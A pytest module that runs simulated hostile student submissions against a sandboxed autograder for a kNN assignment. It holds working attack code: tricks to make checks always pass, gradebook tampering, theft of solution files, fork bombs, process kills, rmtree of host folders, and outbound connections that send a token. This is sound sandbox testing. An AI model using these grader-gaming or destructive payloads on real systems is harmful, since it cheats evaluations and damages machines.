"""Hostile submissions: realistic attacks by students on the grader, all graded in one run.

Each attack is one student. It starts from the untouched release (every stub
raises NotImplementedError, so its legitimate score is 0) and adds the attack
to package files and/or notebook cells. All of them are graded in ONE
``grade_assignment(course, "assignment1", jobs=2)`` run of the full course,
together with the bundled ``reference`` submission and the untouched
``release``; the reference is also graded alone in a second scratch course.

The attacks aim at kNN (``k_nearest_neighbor.py``, ``knn.ipynb``), so most
hostile students hand in ``knn.ipynb`` and the full package only (their other
notebooks would be the release's stubs, which the ``release`` student covers);
attacks on the whole package keep every notebook. Each hostile ``knn.ipynb``
ends with a cell that prints what the attack code logged (``HOSTILE-LOG``), so
that the tests can tell an attack that was blocked from one that never ran.

Code that could harm the machine runs only inside the sandbox (when the
working directory is ``/submission`` and the process is in its own PID
namespace), and the module refuses to run when the sandbox is incomplete.

Run with ``pytest -s tests/test_hostile.py`` to see the table of outcomes.
"""
from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import os
import re
import select
import shutil
import socket
import sqlite3
import sys
import textwrap
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
import pytest

from autograder import grade, sandbox, verdicts
from autograder.course import REPO_ROOT, Course, copy_course
from autograder.examples import build_example, load_examples
from autograder.grade import SUMMARY, grade_assignment
from autograder.release import release_assignment

pytestmark = pytest.mark.e2e

A1 = "assignment1"
KNN = "cs231n/classifiers/k_nearest_neighbor.py"
# Per-step limit for this run (verdicts.STEP_SECONDS is 30): attacks that hang cost
# this once (or this + 10 s when they ignore the interrupt). The reference's slowest
# step (a feature-extraction cell of features.ipynb) takes 7 to 9 s on an idle 2-core
# machine, alone or among the attacks, and up to 13 s when the machine is busy with
# other work; the fixture prints it.
STEP_SECONDS = 20
# The reference is graded alone, for comparison, while the hostile run records its
# grades in nbgrader (no sandbox runs then). jobs=1 would be the purest baseline but
# adds about 30 s to the module; two at a time still grades the reference with no
# other submission present and no student code but its own running.
ALONE_JOBS = 2
MAX_FEEDBACK_BYTES = 5 * 2**20
LOG_MARK = "HOSTILE-LOG"
EVIDENCE_CELL = (f"import sys as _s\nprint({LOG_MARK!r})\n"
                 "for _line in getattr(_s, 'hostile_log', []):\n    print(_line)\n")


# =================================================================== the attacks

@dataclass(frozen=True)
class Attack:
    name: str
    about: str
    build: Callable
    all_notebooks: bool = False     # hand in every notebook, not only knn.ipynb
    summary: tuple = ()             # regexes that summary.txt must match
    evidence: tuple = ()            # regexes that the attack's own log must match
    never: tuple = ()               # regexes that the attack's own log must NOT match
    blamed_on_grader: str = ""      # a known grader bug makes this look like the grader's failure


ATTACKS: dict[str, Attack] = {}


def attack(about, **kw):
    def wrap(fn):
        ATTACKS[fn.__name__] = Attack(fn.__name__, about, fn, **kw)
        return fn
    return wrap


@dataclass
class Ctx:
    """What the attacks know about the host: the paths a student could guess or learn."""

    course: Course
    token: str
    listener: "Listener"

    @property
    def host(self) -> dict:
        c = self.course
        return {
            "root": str(c.root), "package": str(c.package), "course_dir": str(c.course_dir),
            "source": str(c.course_dir / "source"), "submitted": str(c.submitted), "intake": str(c.intake),
            "verdicts": str(c.verdicts), "gradebook": str(c.course_dir / "gradebook.db"),
            "instructor_knn": str(c.package / "classifiers" / "k_nearest_neighbor.py"),
            "instructor_checks": str(c.package / "checks"),
            "source_knn": str(c.source(A1) / "knn.ipynb"),
            "reference_knn": str(c.submitted / "reference" / A1 / KNN),
            "reference_knn_intake": str(c.intake / "reference" / A1 / KNN),
            "reference_nb": str(c.submitted / "reference" / A1 / "knn.ipynb"),
            "reference_nb_intake": str(c.intake / "reference" / A1 / "knn.ipynb"),
            "repo_root": str(REPO_ROOT),
            "repo_knn": str(REPO_ROOT / "cs231n" / "classifiers" / "k_nearest_neighbor.py"),
            "repo_gradebook": str(REPO_ROOT / "assignments" / "gradebook.db"),
            "site_packages": site_packages(), "python": sys.executable,
            "port": self.listener.port, "host_ip": self.listener.host_ip, "host_ip_port": self.listener.host_ip_port,
            "abstract": self.listener.abstract,
        }

    def pwned(self) -> list[Path]:
        """Files the attacks try to create on the host."""
        names = [f"PWNED-{self.token}"]
        c = self.course
        folders = [c.root, c.package, c.course_dir, c.submitted, c.submitted / "reference" / A1, c.intake,
                   c.course_dir / "source" / A1, REPO_ROOT, Path(site_packages()), Path("/tmp")]
        return [f / n for f in folders for n in names]

    def header(self) -> str:
        """Prepended to every piece of attack code: host paths, a log, and the sandbox guard."""
        return textwrap.dedent(f"""\
            _HOST = {self.host!r}
            _TOKEN = {self.token!r}
            _PWNED = {[str(p) for p in self.pwned()]!r}
            import os as _os
            # harmful code runs only in the sandbox: its working folder, its own PID namespace
            _INSIDE = _os.getcwd() == "/submission" and _os.getpid() < 1000
            def _hlog(*parts):
                import sys as _s
                _s.__dict__.setdefault("hostile_log", []).append(" ".join(str(p) for p in parts)[:400])
            """)


class Submission:
    """A hostile student's folder: the release plus edits."""

    def __init__(self, ctx: Ctx, folder: Path):
        self.ctx, self.folder = ctx, folder

    def code(self, text: str) -> str:
        return self.ctx.header() + textwrap.dedent(text).strip() + "\n"

    def append(self, rel: str, text: str) -> None:
        path = self.folder / rel
        path.write_text(path.read_text() + "\n\n# ---------------- added by the student\n" + self.code(text))

    def notebook(self, edit: Callable, name: str = "knn.ipynb") -> None:
        nb = nbformat.read(self.folder / name, as_version=4)
        edit(nb)
        nbformat.write(nb, self.folder / name)

    def add_cell(self, text: str, at: int | None = None, name: str = "knn.ipynb") -> None:
        """A new code cell (before the final evidence cell when ``at`` is None)."""
        def edit(nb):
            index = len(nb.cells) - 1 if at is None else at
            nb.cells.insert(index, nbformat.v4.new_code_cell(self.code(text)))
        self.notebook(edit, name)

    def answer(self, grade_id: str, text: str) -> None:
        """Replace the stub of a solution cell."""
        def edit(nb):
            cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
            cell.source = self.code(text)
        self.notebook(edit)


def graded_cells(nb) -> list:
    return [c for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")]


# ------------------------------------------------------------ tampering with the checks

@attack("patch NumPy from the student module at import, and return garbage",
        summary=(r"FAILED",), evidence=(r"numpy patched",))
def patch_numpy(ctx, sub):
    sub.append(KNN, """
        import numpy as _np
        _np.allclose = _np.isclose = _np.array_equal = _np.array_equiv = lambda *a, **k: True
        _np.testing.assert_allclose = _np.testing.assert_array_equal = lambda *a, **k: None
        _np.linalg.norm = lambda *a, **k: 0.0
        _np.mean = _np.average = lambda *a, **k: 1.0
        _np.max = _np.amax = _np.min = _np.amin = _np.sum = lambda *a, **k: 0.0
        _np.abs = _np.absolute = _np.fabs = lambda x, *a, **k: x - x
        _np.isfinite = lambda x, *a, **k: True
        _np.asarray = lambda a, *args, **kwargs: a

        def _garbage(self, *args, **kwargs):
            return "garbage"

        for _name in ("compute_distances_two_loops", "compute_distances_one_loop",
                      "compute_distances_no_loops", "predict_labels"):
            setattr(KNearestNeighbor, _name, _garbage)
        _hlog("numpy patched")
        """)
    sub.answer("cross_validation", """
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.mean = lambda *a, **k: 0.985
        k_choices = [1, 3, 5, 8, 10, 12, 15, 20, 50, 100]
        k_to_accuracies = {k: "all correct" for k in k_choices}
        """)


@attack("replace the check helpers (close, equal, accuracy, verdict_of, Verdict, every judge) with "
        "always-pass versions, forge codec.save and the worker's describe",
        summary=(r"FAILED",), evidence=(r"checks patched",))
def patch_checks(ctx, sub):
    sub.append(KNN, """
        import dataclasses as _dc
        import sys as _sys
        import numpy as _np
        import cs231n.checks as _C
        import cs231n.checks.codec as _codec
        import cs231n.checks.judges as _J

        class _Pass:
            fraction, message, passed = 1.0, "passed", True
            def __init__(self, *a, **k):
                pass

        def _always(*a, **k):
            return lambda observed, expected: _Pass()

        for _m in (_C, _J):
            _m.close = _m.equal = _m.accuracy = _always
            _m.Verdict = _Pass
        _J.verdict_of = lambda *a, **k: _Pass()
        _C.points_of = lambda checks, cell, points: {c.name: 100.0 for c in checks}
        for _checks in _C._REGISTRY.values():
            for _i, _c in enumerate(_checks):
                _checks[_i] = _dc.replace(_c, judge=_always(), weight=100.0)
        _real_save = _codec.save

        def _save(path, value):
            if "check-" in str(path):
                value = {"kind": "value", "value": _np.random.rand(60, 1437)}
            _real_save(path, value)

        _codec.save = _save
        _main = _sys.modules.get("__main__")
        if hasattr(_main, "describe"):  # the grader's worker: make every exception a "value"
            _main.describe = lambda exc, root: {"kind": "value", "value": _np.random.rand(6, 9)}
        _hlog("checks patched")
        """)
    sub.answer("cross_validation", """
        import cs231n.checks as C
        import cs231n.checks.local as L
        C.check = lambda *a, **k: print("all passed")
        L.run_in_namespace = lambda *a, **k: []
        k_to_accuracies = {}
        """)


@attack("replace builtins (abs, max, min, sum, round, float, len, isinstance, print)",
        summary=(r"FAILED",))
def patch_builtins(ctx, sub):
    sub.append(KNN, """
        import builtins as _b
        _b.abs = lambda x: 0
        _b.max = _b.min = _b.sum = _b.round = lambda *a, **k: 0
        _b.float = lambda *a, **k: 0.0
        _b.len = lambda x: 0
        _b.isinstance = lambda *a, **k: True
        _b.print = lambda *a, **k: None
        """)


@attack("edit the locked test cells: print('all passed') instead of check(...), 1000 points, unlocked, "
        "turned to markdown; redefine check() in the setup cell",
        summary=(r"FAILED",))
def edit_locked_cells(ctx, sub):
    def edit(nb):
        for i, cell in enumerate(graded_cells(nb)):
            cell.source = 'print("all passed")\n'
            if i == 0:
                cell.metadata.nbgrader["points"] = 1000
            elif i == 1:
                cell.metadata.nbgrader["locked"] = False
            elif i == 2:
                nb.cells[nb.cells.index(cell)] = nbformat.v4.new_markdown_cell("all passed", metadata=cell.metadata)
        setup = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
        setup.source += '\ncheck = lambda *a, **k: print("all passed")\n'
    sub.notebook(edit)


@attack("delete the locked test cells", summary=(r"was deleted; the release's was put back",))
def delete_locked_cells(ctx, sub):
    def edit(nb):
        for cell in graded_cells(nb):
            nb.cells.remove(cell)
    sub.notebook(edit)


@attack("duplicate graded cells' grade ids: a fake 'all passed' copy before every test cell, "
        "and a second copy of an answer cell",
        summary=(r"appears? more than once",))
def duplicate_grade_id(ctx, sub):
    def edit(nb):
        for cell in graded_cells(nb):
            fake = nbformat.v4.new_code_cell('print("all passed")', metadata=json.loads(json.dumps(cell.metadata)))
            nb.cells.insert(nb.cells.index(cell), fake)
        answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "cross_validation")
        twin = nbformat.v4.new_code_cell("k_to_accuracies = {}", metadata=json.loads(json.dumps(answer.metadata)))
        nb.cells.insert(nb.cells.index(answer), twin)
    sub.notebook(edit)


@attack("tamper with the nbgrader metadata: a test cell flagged as an answer, another one ungraded, "
        "one renamed, an answer cell made a 50-point graded cell, a new 100-point 'bonus' cell",
        summary=(r"the release's was put back",))
def tamper_cell_metadata(ctx, sub):
    def edit(nb):
        tests = graded_cells(nb)
        tests[0].metadata.nbgrader["solution"] = True
        tests[1].metadata.nbgrader["grade"] = False
        tests[2].metadata.nbgrader["grade_id"] = "renamed"
        answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "cross_validation")
        answer.metadata.nbgrader.update(grade=True, points=50)
        nb.cells.insert(len(nb.cells) - 1, nbformat.v4.new_code_cell('print("bonus")', metadata={"nbgrader": {
            "grade": True, "solution": False, "locked": True, "grade_id": "bonus", "points": 100,
            "schema_version": 3}}))
    sub.notebook(edit)


# ------------------------------------------------------------ reaching the host

@attack("read the instructor's solution, the reference student's files (submitted and intake) and "
        "other sandboxes' copies, exec them and copy them into its own package",
        summary=(r"NotImplementedError",), evidence=(r"READ-FAIL .*k_nearest_neighbor\.py", r"READ-FAIL .*knn\.ipynb"),
        never=(r"STOLEN",))
def read_instructor(ctx, sub):
    sub.append(KNN, """
        import glob as _glob

        def _steal():
            paths = [_HOST["instructor_knn"], _HOST["repo_knn"], _HOST["reference_knn"], _HOST["reference_knn_intake"],
                     "../../reference/assignment1/" + "cs231n/classifiers/k_nearest_neighbor.py"]
            paths += _glob.glob("/tmp/cs231n-sandbox-*/work/cs231n/classifiers/k_nearest_neighbor.py")
            paths += _glob.glob(_HOST["intake"] + "/*/assignment1/cs231n/classifiers/k_nearest_neighbor.py")
            paths += _glob.glob("/proc/[0-9]*/root" + _HOST["instructor_knn"])
            paths += _glob.glob("/proc/[0-9]*/cwd/cs231n/classifiers/k_nearest_neighbor.py")
            for p in paths:
                try:
                    with open(p) as f:
                        src = f.read()
                except OSError as e:
                    _hlog("READ-FAIL", p, type(e).__name__)
                    continue
                if "raise NotImplementedError" in src:
                    continue  # a stub: its own copy
                _hlog("STOLEN", p)
                exec(compile(src, p, "exec"), globals())
                with open(__file__, "w") as f:  # keep it for the worker's next start
                    f.write(src)
                return

        if _INSIDE:
            _steal()
        """)
    sub.answer("cross_validation", """
        import json as _json
        k_to_accuracies = {}
        for _p in [_HOST["reference_nb"], _HOST["reference_nb_intake"], _HOST["source_knn"]]:
            try:
                with open(_p) as _f:
                    _nb = _json.load(_f)
            except OSError as _e:
                _hlog("READ-FAIL", _p, type(_e).__name__)
                continue
            _hlog("STOLEN", _p)
            for _c in _nb["cells"]:
                if _c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                    exec("".join(_c["source"]))
        """)


@attack("symlinks in the submission: its k_nearest_neighbor.py to the instructor's, svm.ipynb to the "
        "source notebook, cs231n/checks to the instructor's checks, a link to the reference student",
        summary=(r"k_nearest_neighbor\.py is missing from the submission", r"svm\.ipynb is missing"),
        evidence=(r"LINK-FAIL",), never=(r"LINK-READ",))
def symlink_instructor(ctx, sub):
    c, folder = ctx.course, sub.folder
    (folder / KNN).unlink()
    (folder / KNN).symlink_to(c.package / "classifiers" / "k_nearest_neighbor.py")
    (folder / "svm.ipynb").symlink_to(c.source(A1) / "svm.ipynb")
    shutil.rmtree(folder / "cs231n" / "checks")
    (folder / "cs231n" / "checks").symlink_to(c.package / "checks", target_is_directory=True)
    (folder / "peek").symlink_to(c.submitted / "reference" / A1, target_is_directory=True)
    sub.add_cell("""
        for _p in ["peek/cs231n/classifiers/k_nearest_neighbor.py", "peek/knn.ipynb", "svm.ipynb"]:
            try:
                open(_p).read()
                _hlog("LINK-READ", _p)
            except OSError as _e:
                _hlog("LINK-FAIL", _p, type(_e).__name__)
        """)


@attack("write to the gradebook (sqlite3) to give itself points",
        summary=(r"NotImplementedError",), evidence=(r"GRADEBOOK-FAIL",), never=(r"GRADEBOOK-WRITTEN",))
def write_gradebook(ctx, sub):
    code = """
        import sqlite3 as _sq

        def _pwn_gradebook():
            for p in [_HOST["gradebook"], _HOST["repo_gradebook"], "../../gradebook.db", "/gradebook.db"]:
                try:
                    con = _sq.connect("file:" + p + "?mode=rw", uri=True)
                    con.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
                    con.commit()
                    _hlog("GRADEBOOK-WRITTEN", p)
                except Exception as e:
                    _hlog("GRADEBOOK-FAIL", p, type(e).__name__, e)

        if _INSIDE:
            _pwn_gradebook()
        """
    sub.append(KNN, code)
    sub.add_cell(code)


@attack("os._exit(0) in a probed function, os._exit(3) and kill(-1) in notebook cells, SystemExit",
        summary=(r"os\._exit or sys\.exit", r"notebook cell \d+ stopped the grading"), evidence=(r"survived kill",))
def exit_midrun(ctx, sub):
    sub.append(KNN, """
        def _no_loops(self, X):
            if _INSIDE and X.shape[0] == 60:  # the check's call only: one restart
                _os._exit(0)
            raise NotImplementedError("not written")

        KNearestNeighbor.compute_distances_no_loops = _no_loops
        """)
    sub.add_cell("""
        import signal
        if _INSIDE:
            for _pid in (_os.getppid(), -1):  # the sandbox's init, then every process it can see
                try:
                    _os.kill(_pid, signal.SIGKILL)
                except OSError as _e:
                    _hlog("kill", _pid, type(_e).__name__)
            _hlog("survived kill")
        """, at=2)
    sub.add_cell("raise SystemExit(0)", at=2)
    sub.add_cell("""
        if _INSIDE:
            _os._exit(3)
        """, at=2)


@attack("cs231n/__init__.py calls os._exit(0) at import", all_notebooks=True,
        summary=(r"importing cs231n stopped the grading",))
def exit_at_import(ctx, sub):
    sub.append("cs231n/__init__.py", """
        if _INSIDE:
            _os._exit(0)
        """)


# ------------------------------------------------------------ resources

@attack("an endless loop in compute_distances_one_loop", summary=(r"ran out of time",))
def infinite_loop(ctx, sub):
    sub.append(KNN, """
        _hung = []

        def _one_loop(self, X):
            if not _hung:  # the first call only, so that the run hangs once
                _hung.append(1)
                while True:
                    pass
            raise NotImplementedError("not written")

        KNearestNeighbor.compute_distances_one_loop = _one_loop
        """)


@attack("a loop that swallows the interrupt (except BaseException) and ignores SIGTERM/SIGINT",
        summary=(r"did not stop when interrupted",))
def swallow_interrupts(ctx, sub):
    sub.add_cell("""
        import signal
        for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(_sig, signal.SIG_IGN)
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """, at=2)


@attack("allocate and touch 20 GB in a probed function; three processes grabbing 1.5 GB each in a cell",
        summary=(r"MemoryError",), evidence=(r"MEMORY-CELL",))
def memory_hog(ctx, sub):
    sub.append(KNN, """
        def _no_loops(self, X):
            big = np.ones(20 * 2**30 // 8)
            big[::4096] = 2.0
            return big

        KNearestNeighbor.compute_distances_no_loops = _no_loops
        """)
    # with a memory cgroup the three processes exceed the sandbox's memory together; without one, stay small
    blocks = 24 if "memory" in sandbox._cgroup_roots() else 4
    sub.add_cell("""
        import signal
        import time
        import numpy as np
        if _INSIDE:  # each process stays under the address-space limit; together they exceed the sandbox's memory
            _hlog("MEMORY-CELL")
            _kids = []
            for _i in range(3):
                _pid = _os.fork()
                if _pid == 0:
                    try:
                        _hold = [np.ones(2**23) for _j in range(@BLOCKS@)]  # 64 MB each, touched
                        while True:
                            time.sleep(1)
                    finally:
                        _os._exit(0)
                _kids.append(_pid)
            try:
                _pid, _status = _os.wait()  # nothing but the out-of-memory killer ends a child
                _hlog("CHILD", "killed by signal" if _os.WIFSIGNALED(_status) else "exited with status",
                      _os.WTERMSIG(_status) if _os.WIFSIGNALED(_status) else _os.WEXITSTATUS(_status))
            finally:
                for _pid in _kids:
                    try:
                        _os.kill(_pid, signal.SIGKILL)
                    except OSError:
                        pass
        """.replace("@BLOCKS@", str(blocks)))


@attack("a fork bomb (while True: os.fork()) in a notebook cell", summary=(r"stopped the grading|ran out of time",))
def fork_bomb(ctx, sub):
    sub.add_cell("""
        if _INSIDE:
            while True:
                try:
                    _os.fork()
                except OSError:
                    pass
        """, at=2)


@attack("open network connections: the test's TCP server on 127.0.0.1 and the host's address, "
        "1.1.1.1:80, an abstract Unix socket, DNS, UDP",
        summary=(r"NotImplementedError",), evidence=(r"NET-BLOCKED tcp 127\.0\.0\.1", r"NET-BLOCKED tcp 1\.1\.1\.1",
                                                      r"NET-BLOCKED unix"),
        never=(r"NET-CONNECTED", r"NET-SENT"))
def network(ctx, sub):
    code = """
        import socket as _socket

        def _net():
            targets = [("127.0.0.1", _HOST["port"]), ("1.1.1.1", 80), ("8.8.8.8", 53)]
            if _HOST["host_ip"]:
                targets.append((_HOST["host_ip"], _HOST["host_ip_port"]))
            for host, port in targets:
                try:
                    s = _socket.create_connection((host, port), timeout=2)
                    s.sendall(b"hostile " + _TOKEN.encode())
                    _hlog("NET-CONNECTED tcp", host, port)
                except OSError as e:
                    _hlog("NET-BLOCKED tcp", host, port, type(e).__name__, e)
            try:
                u = _socket.socket(_socket.AF_UNIX)
                u.settimeout(2)
                u.connect(_HOST["abstract"])
                _hlog("NET-CONNECTED unix")
            except OSError as e:
                _hlog("NET-BLOCKED unix", type(e).__name__, e)
            try:
                _socket.getaddrinfo("pypi.org", 443)
                _hlog("NET-CONNECTED dns")
            except OSError as e:
                _hlog("NET-BLOCKED dns", type(e).__name__)
            try:
                _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53))
                _hlog("NET-SENT udp")
            except OSError as e:
                _hlog("NET-BLOCKED udp", type(e).__name__)

        if _INSIDE:
            _net()
        """
    sub.append(KNN, code)
    sub.add_cell(code)


@attack("print a gigabyte (sys.stdout.write, os.write to fds 1 and 2, sys.__stdout__) and reach past "
        "the output cap", summary=(r"NotImplementedError",))
def print_flood(ctx, sub):
    sub.append(KNN, """
        def _two_loops(self, X):
            print("d" * 50_000_000)
            return "garbage"

        KNearestNeighbor.compute_distances_two_loops = _two_loops
        """)
    sub.add_cell("""
        import sys
        _chunk = "x" * 2**20
        for _ in range(1024):
            sys.stdout.write(_chunk)
        _bytes = b"y" * 2**20
        for _ in range(1024):
            _os.write(1, _bytes)
        for _ in range(64):
            _os.write(2, _bytes)
        sys.__stdout__.write(_chunk * 16)
        print("z" * 10**8)
        if hasattr(sys.stdout, "parts"):  # the worker's capture: go past its cap
            sys.stdout.parts.append("w" * 10**8)
        """)


@attack("shutil.rmtree of everything it can reach: its own folder, /tmp, and the host's course, "
        "instructor package, submissions and intake",
        summary=(r"NotImplementedError",), evidence=(r"WIPE",))
def rmtree(ctx, sub):
    code = """
        import shutil as _shutil

        def _wipe(targets):
            for t in targets:
                try:
                    _shutil.rmtree(t)
                    _hlog("WIPED", t)
                except Exception as e:
                    _hlog("WIPE-FAIL", t, type(e).__name__)

        if _INSIDE:
            _wipe([_HOST[k] for k in ("submitted", "intake", "package", "source", "verdicts", "course_dir", "root")]
                  + ["/tmp"])
        """
    sub.append(KNN, code)
    sub.add_cell(code + """
        if _INSIDE:
            for _name in _os.listdir("/submission"):
                _p = _os.path.join("/submission", _name)
                _shutil.rmtree(_p, ignore_errors=True) if _os.path.isdir(_p) else _os.remove(_p)
            _hlog("WIPED /submission", _os.listdir("/submission"))
        """)


@attack("delete the grader's files in the sandbox (events and job in /out, the worker and checks in "
        "/submission/cs231n/checks), then os._exit",
        summary=(r"stopped the grading|did not start",),
        blamed_on_grader="the worker's event log and script are writable by the student's code: deleting them "
                         "makes verdicts._run_worker report 'the grader's worker did not start' "
                         "(status infrastructure)")
def wipe_grader_files(ctx, sub):
    sub.add_cell("""
        import shutil as _shutil, sys as _sys
        if _INSIDE:
            _out = _sys.argv[1]
            for _name in _os.listdir(_out):
                _os.remove(_os.path.join(_out, _name))
            _shutil.rmtree("/submission/cs231n/checks")
            _os._exit(0)
        """, at=2)


@attack("cs231n/__init__.py with import-time side effects: writes files to host paths and the "
        "Python installation, patches NumPy, spawns background processes that outlive the worker",
        summary=(r"NotImplementedError",),
        evidence=(r"WRITE-FAIL", r"SPAWNED"), never=(r"WROTE (/usr|/etc|\S*site-packages)",))
def import_side_effects(ctx, sub):
    sub.append("cs231n/__init__.py", """
        import subprocess as _subprocess
        import sys as _sys

        def _side_effects():
            for p in _PWNED + ["/usr/PWNED-" + _TOKEN, "/etc/PWNED-" + _TOKEN]:
                try:
                    with open(p, "w") as f:
                        f.write("pwned")
                    _hlog("WROTE", p)
                except OSError as e:
                    _hlog("WRITE-FAIL", p, type(e).__name__)
            try:
                _os.makedirs(_os.path.dirname(_PWNED[0]), exist_ok=True)
                with open(_PWNED[0], "w") as f:
                    f.write("pwned")
                _hlog("MADE (in the sandbox's own /tmp)", _PWNED[0])
            except OSError as e:
                _hlog("WRITE-FAIL made", type(e).__name__)
            import numpy
            numpy.allclose = lambda *a, **k: True
            numpy.linalg.norm = lambda *a, **k: 0.0
            # a detached process, and a double-forked daemon
            _subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)", _TOKEN],
                              start_new_session=True, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
            if _os.fork() == 0:
                _os.setsid()
                if _os.fork() == 0:
                    _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(600)", _TOKEN])
                _os._exit(0)
            _hlog("SPAWNED")

        if _INSIDE:
            _side_effects()
        """)


@attack("search the file system at grading time (/, /tmp, /work, /out, the course folder) for cached "
        "expected values (*.npz, expected*, verdicts, gradebook.db, cs231n-reference-*) and return any "
        "array of the right shape", summary=(r"FAILED",), evidence=(r"SEARCHED \d+",), never=(r"SECRET",))
def search_cache(ctx, sub):
    sub.append(KNN, """
        import fnmatch as _fnmatch
        import time as _time

        _PATTERNS = ("*.npz", "*.npy", "expected*", "verdicts", "gradebook.db", "cs231n-reference-*",
                     "cs231n-sandbox-*", "intake", "submitted")
        _SECRETS = ("cs231n-reference-", "cs231n-sandbox-", "checks/expected", "/assignments/")
        _by_shape = None

        def _search():
            global _by_shape
            if _by_shape is not None:
                return _by_shape
            _by_shape, found, t0 = {}, [], _time.monotonic()
            for root in ["/tmp", "/out", "/submission", _HOST["root"], _HOST["course_dir"], _HOST["repo_root"],
                         "/work", "/"]:
                for dirpath, dirnames, filenames in _os.walk(root):
                    if dirpath == "/":
                        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev")]
                    if _time.monotonic() - t0 > 3:
                        break
                    for name in filenames + dirnames:
                        if any(_fnmatch.fnmatch(name, p) for p in _PATTERNS):
                            found.append(_os.path.join(dirpath, name))
            _hlog("SEARCHED", len(found), "candidates")
            for p in found:  # the course's files, the grader's folders (the Python installation is public)
                if "site-packages" not in p and (p.startswith(_HOST["root"]) or any(s in p for s in _SECRETS)):
                    _hlog("SECRET", p)
            for p in found[:300]:
                if p.endswith((".npz", ".npy")):
                    try:
                        data = np.load(p, allow_pickle=False)
                        arrays = [data[k] for k in data.files] if hasattr(data, "files") else [data]
                    except Exception:
                        continue
                    for a in arrays:
                        _by_shape.setdefault(getattr(a, "shape", None), a)
            return _by_shape

        def _cached(shape):
            found = _search().get(shape)
            if found is not None:
                _hlog("MATCH", shape)
                return found
            return np.zeros(shape)

        def _dist(self, X):
            return _cached((X.shape[0], self.X_train.shape[0]))

        def _labels(self, dists, k=1):
            return _cached((dists.shape[0],)).astype(int)

        for _name in ("compute_distances_two_loops", "compute_distances_one_loop", "compute_distances_no_loops"):
            setattr(KNearestNeighbor, _name, _dist)
        KNearestNeighbor.predict_labels = _labels
        """)


@attack("tamper with the probes' output: an ndarray subclass that equals everything, an object with "
        "__array__, a 4.8 GB broadcast view, a dict, huge notebook variables",
        summary=(r"nan or inf|relative error|Frobenius|cannot be graded|should be|differ",))
def tamper_output(ctx, sub):
    sub.append(KNN, """
        class _Liar(np.ndarray):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

        class _ArrayLike:
            def __init__(self, shape):
                self.shape = shape

            def __array__(self, dtype=None, copy=None):
                return np.full(self.shape, 7.0)

            def __len__(self):
                return self.shape[0]

        def _two(self, X):
            return np.full((X.shape[0], self.X_train.shape[0]), np.nan).view(_Liar)

        def _one(self, X):
            return _ArrayLike((X.shape[0], self.X_train.shape[0]))

        def _none(self, X):
            return np.broadcast_to(np.float64(0.0), (X.shape[0], 10**7))

        def _labels(self, dists, k=1):
            return {"labels": list(range(len(dists)))}

        KNearestNeighbor.compute_distances_two_loops = _two
        KNearestNeighbor.compute_distances_one_loop = _one
        KNearestNeighbor.compute_distances_no_loops = _none
        KNearestNeighbor.predict_labels = _labels
        """)
    sub.answer("cross_validation", """
        import numpy as np
        k_choices = [1, 3, 5, 8, 10, 12, 15, 20, 50, 100]
        k_to_accuracies = {k: np.zeros(5) for k in k_choices}
        k_to_accuracies[1000] = np.zeros(9_000_000)  # 72 MB: more than a file may hold
        class _Five(int):
            def __eq__(self, other):
                return True
        best_k = _Five(5)
        """)


@attack("forge the worker's output: write plausible-looking check files and a 'finished' event "
        "into /out, then os._exit", summary=(r"FAILED",))
def forge_results(ctx, sub):
    sub.append(KNN, """
        import sys as _sys

        def _forge():
            from cs231n.checks import codec
            out = _sys.argv[1]
            values = {"two_loops_toy": np.zeros((6, 9)), "two_loops_digits": np.zeros((25, 40)),
                      "one_loop_digits": np.zeros((60, 1237)), "no_loops_digits": np.zeros((60, 1237)),
                      "no_loops_self": np.zeros((200, 200)), "vote_toy": [np.zeros(2, int)] * 3,
                      "vote_ties_toy": [np.zeros(1, int)] * 2, "vote_random": [np.zeros(20, int)] * 6,
                      "knn1_accuracy": np.zeros(360, int), "knn5_accuracy": np.zeros(360, int),
                      "cross_validation": {str(k): np.full(5, 0.5) for k in (1, 3, 5, 8, 10, 12, 15, 20, 50, 100)},
                      "best_k": {"best_k": 1, "table": {"1": np.full(5, 0.5)}, "predictions": np.zeros(360, int)}}
            values["cross_validation_means"] = values["cross_validation"]
            for name, value in values.items():
                codec.save(out + "/check-" + name + ".npz", {"kind": "value", "value": value})
            with open(out + "/events.jsonl", "a") as f:
                f.write('{"event": "finished", "t": 0}\\n')
            _os._exit(0)

        if _INSIDE:
            _forge()
        """)


# =================================================================== the run

def site_packages() -> str:
    import numpy
    return str(Path(numpy.__file__).resolve().parent.parent)


def outward_ip() -> str | None:
    """This machine's own non-loopback address, if it has one (nothing is sent)."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))
            ip = s.getsockname()[0]
        return None if ip.startswith("127.") else ip
    except OSError:
        return None


class Listener:
    """TCP servers on the host (loopback, and the machine's own address) and an abstract Unix
    socket: records every connection an attack manages to open."""

    def __init__(self, token: str):
        self.hits: list[str] = []
        self.socks: list[socket.socket] = []
        self.port = self._listen(socket.AF_INET, ("127.0.0.1", 0)).getsockname()[1]
        self.host_ip = outward_ip()
        self.host_ip_port = self._listen(socket.AF_INET, (self.host_ip, 0)).getsockname()[1] if self.host_ip else 0
        self.abstract = f"\0cs231n-hostile-{token}"
        self._listen(socket.AF_UNIX, self.abstract)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _listen(self, family, address):
